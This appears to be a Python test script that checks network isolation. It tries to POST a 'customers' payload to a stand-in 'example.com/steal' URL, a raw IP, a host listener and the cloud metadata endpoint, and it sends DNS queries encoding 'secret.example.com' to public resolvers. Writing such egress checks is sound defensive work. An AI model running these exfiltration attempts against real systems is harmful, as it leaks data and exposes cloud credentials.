"""Tries to post data out: by name, by address, to the host, to the cloud's metadata, over DNS."""

import socket
import sys
import urllib.request

host = sys.argv[1]  # "address:port" of a listener on the host, waiting for this

sent = False
for url in ("https://example.com/steal", "http://93.184.216.34/", f"http://{host}/", "http://169.254.169.254/latest/meta-data/"):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=b"customers"), timeout=3)
        print(f"{url}: SENT")
        sent = True
    except OSError as e:
        print(f"{url}: {getattr(e, 'reason', e)}")
for server in ("8.8.8.8", "1.1.1.1"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01", (server, 53))
        print(f"dns {server}: SENT")
        sent = True
    except OSError as e:
        print(f"dns {server}: {e.strerror}")
raise SystemExit(sent)
